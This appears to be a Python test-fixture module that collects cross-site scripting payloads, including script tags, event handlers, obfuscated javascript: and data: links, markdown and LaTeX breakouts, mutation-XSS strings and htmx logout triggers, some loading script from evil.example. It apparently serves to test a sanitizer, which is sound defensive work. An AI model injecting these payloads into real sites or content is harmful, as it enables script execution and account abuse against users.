# ruff: noqa: E501
"""Scripts in every disguise that is known to have worked somewhere, by family."""

from urllib.parse import quote

TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<script>alert`1`</script>",
    "\x00<script>alert(1)</script>", "<script>alert(1)", "＜script＞alert(1)＜/script＞", "<SCRIPT SRC=data:,alert(1)>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", '<img src="x" onerror="alert(1)">', "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a onmouseover=alert(1)>x</a>",
    "<div style=width:expression(alert(1))>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<form action=javascript:alert(1)><button>x</form>",
    "<button formaction=javascript:alert(1)>x", "<link rel=stylesheet href=javascript:alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<x contenteditable onblur=alert(1)>x", "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<select autofocus onfocus=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi//xlink:href='javascript:alert(1)'>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]  # fmt: skip
LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](java&#10;script:alert(1))", "[x](java&Tab;script:alert(1))", "[x](\tjavascript:alert(1))", "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)>\n\n[x]", "[x](javascript&colon;alert(1))", "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](&#1;javascript:alert(1))", "[x](&#x200b;javascript:alert(1))",
    "[x](view-source:javascript:alert(1))", "[x](feed:javascript:alert(1))", "[x](blob:https://evil.example/x)", "[x](file:///etc/passwd)",
    "[x](filesystem:https://evil.example/x)", "[x](jar:javascript:alert(1)!/)", "[x](//evil.example\\@good.example)",
]  # fmt: skip
BREAKOUTS = [
    '![" onerror="alert(1)](x)', '![x](x "\\" onerror=\\"alert(1)")', "[x](/x '\" onmouseover=alert(1) y=\"')", '[x](/x" onmouseover="alert(1))',
    '```" onload="alert(1)\nx\n```', "```<script>alert(1)</script>\nx\n```", "``` html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "||<img src=x onerror=alert(1)>||", "~~<svg onload=alert(1)>~~",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "[^<script>]\n\n[^<script>]: x",
    "- [ ] <img src=x onerror=alert(1)>", "- [x](javascript:alert(1))", "> <script>alert(1)</script>", "# <img src=x onerror=alert(1)>",
    "@alice<script>alert(1)</script>", "@<img src=x onerror=alert(1)>", ":<script>alert(1)</script>:", "https://x.example/<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)', "https://x.example/'onmouseover='alert(1)", "http://javascript:alert(1)@x.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
    "*<img src=x onerror=alert(1)>*", "[<img src=x onerror=alert(1)>](/x)", "![<img src=x onerror=alert(1)>](/x)", "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "{{constructor.constructor('alert(1)')()}}", "{% load static %}{{ request }}", "<a href='https://x' id=constructor name=document>x</a>",
]  # fmt: skip
QUOTED = [quote(payload) for payload in TAGS[:3]]

# Every way that HTML has of calling a script when something happens, on elements that let it happen without anybody's help where there is one.
EVENTS = {
    "img src=x": ["onerror", "onload", "onloadstart", "onloadend"], "svg": ["onload", "onfocusin", "onbegin"],
    "body": ["onload", "onpageshow", "onhashchange", "onresize", "onscroll", "onbeforeprint", "onmessage", "onpopstate", "onunload"],
    "input autofocus": ["onfocus", "onblur", "oninput", "onchange", "oninvalid", "onselect", "onbeforeinput"],
    "video src=x": ["onerror", "oncanplay", "onplay", "onloadeddata", "onloadedmetadata", "ontimeupdate", "onvolumechange"],
    "div style=animation-name:x": ["onanimationstart", "onanimationend", "ontransitionend", "ontransitionrun", "onwebkitanimationstart"],
    "p tabindex=1": [
        *("onclick", "ondblclick", "onmouseover", "onmouseenter", "onmousemove", "onmouseout", "onwheel", "oncontextmenu"),
        *("onkeydown", "onkeypress", "onkeyup", "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "ontouchstart", "onpointerdown"),
        *("onpointerover", "onpointerrawupdate", "ongotpointercapture", "onauxclick", "onbeforetoggle", "onscrollend", "onfocusin"),
    ],
    "details open": ["ontoggle"], "marquee": ["onstart", "onbounce", "onfinish"], "object data=x": ["onerror"], "form": ["onsubmit", "onreset", "onformdata"],
    "track src=x": ["onerror", "oncuechange"], "frameset": ["onload"], "style": ["onload", "onerror"], "link rel=stylesheet href=x": ["onload"],
}  # fmt: skip
HAPPENINGS = [f"<{element} {event}=alert(1)>x" for element, events in EVENTS.items() for event in events]

SPELLINGS = [
    "javascript:alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "javascript&#0000058alert(1)", "j&#97;vascript:alert(1)",
    "&#0000106avascript:alert(1)", "&#x6a&#x61vascript:alert(1)", "java\u0000script:alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)", "&#14; javascript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)",
    "\u00adjavascript:alert(1)", "java\u00adscript:alert(1)", "java\u200dscript:alert(1)", "ja\\vascript:alert(1)", "JAVASCRIPT://%0aalert(1)",
    "javascript://x.example/%0aalert(1)", "javascript:/*--></title></style></textarea>*/alert(1)", "javascript:'alert(1)'", "javascript:%61lert(1)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:application/xhtml+xml,x", "DATA:text/html,x",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", "vbscript:x", "VBScript:msgbox(1)", "livescript:x", "mocha:x", "x-javascript:alert(1)",
    "about:blank", "chrome://settings", "ms-settings:x", "intent://x#Intent;end", "search-ms:x", "ws://evil.example/", "view-source:data:text/html,x",
]  # fmt: skip
ADDRESSED = [form.format(spelling) for spelling in SPELLINGS for form in ("[x](<{}>)", '<a href="{}">x</a>', "![x](<{}>)")]
MUTATING = [
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><desc><b><style><img src=x onerror=alert(1)></style></b></desc></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>", "<xmp><img src=\"</xmp><img src=x onerror=alert(1)>\">", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>", "<table><caption><script>alert(1)</script>", "<select><template><img src=x onerror=alert(1)></template></select>",
    "<title><img src=x onerror=alert(1)></title>", "<iframe><img src=x onerror=alert(1)></iframe>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><animate attributeName=href values=javascript:alert(1)>", "<a id=x tabindex=1 onfocus=alert(1)>#x", "<div popover onbeforetoggle=alert(1)>",
    "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<image src=1 onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)>", "<table background=javascript:alert(1)>", "<portal src=javascript:alert(1)>", "<embed code=javascript:alert(1)>", "<applet code=x>", "<link rel=import href=data:text/html,x>",
    "<div hx-get=/x hx-trigger=load hx-on::load=alert(1)>", "<div hx-on:click=alert(1) data-hx-get=/accounts/logout/>", "<a hx-post=/accounts/logout/ hx-trigger=load>x</a>", "<b data-completer onclick=alert(1)>",
    "<img srcset='x,y' onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img/onerror='alert(1)'src=x>", "<img src=x onerror\n=alert(1)>", "<img src=x onerror=&#97lert(1)>", "<img src=x\u000conerror=alert(1)>",
    "<svg/onload=&#x61;lert(1)>", "<sVg/OnLoAd=alert(1)>", "<svg onload=alert`1`>", "<svg onload=top['al'+'ert'](1)>", "<svg onload=window.alert?.(1)>", "<svg><script href=data:,alert(1) />",
]  # fmt: skip
# In formulas, where a board has them: what LaTeX has of links, styles, ids and text, and what breaks out of them.
COMMANDS = [r"\text{%s}", r"\href{%s}{x}", r"\href{x}{%s}", r"\mbox{%s}", r"\textbf{%s}", r"\operatorname{%s}", r"\tag{%s}", r"\style{%s}{x}", r"\class{%s}{x}",
    r"\id{%s}{x}", r"\color{%s}{x}", r"\textcolor{%s}{x}", r"\bbox[%s]{x}", r"\hspace{%s}", r"\rule{%s}{1em}", r"\url{%s}", r"\unicode{%s}", r"\begin{%s}x\end{%s}",
    r"\htmlData{x=%s}{x}", r"\includegraphics{%s}", r"\left%s x \right)", r"\begin{array}{%s}x\end{array}", r"\def\x{%s}\x", r"\verb|%s|", r"\label{%s}", "x^{%s}", "%s"]  # fmt: skip
INSIDE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</mtext></math><svg onload=alert(1)>", "javascript:alert(1)", "</mi><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "position:fixed;background:url(javascript:alert(1))", "&lt;img src=x onerror=alert(1)&gt;", "<mglyph><style><img src=x onerror=alert(1)>",
    "<annotation-xml encoding='text/html'><img src=x onerror=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "<maction actiontype='statusline' xlink:href='javascript:alert(1)'>x",
]  # fmt: skip
FORMULAS = [f"{mark}{command.replace('%s', inside)}{mark}" for command in COMMANDS for inside in INSIDE for mark in ("$", "$$")]
ALL = list(dict.fromkeys([*TAGS, *HANDLERS, *LINKS, *BREAKOUTS, *QUOTED, *HAPPENINGS, *ADDRESSED, *MUTATING]))


def together(payloads: list[str], each: int = 12) -> list[str]:
    """The payloads as few texts, each payload in a block quote of its own, which ends whatever it opens."""
    fenced = ["\n".join(f"> {line}" for line in payload.split("\n")) for payload in payloads]
    return ["\n\n.\n\n".join(fenced[place : place + each]) for place in range(0, len(fenced), each)]
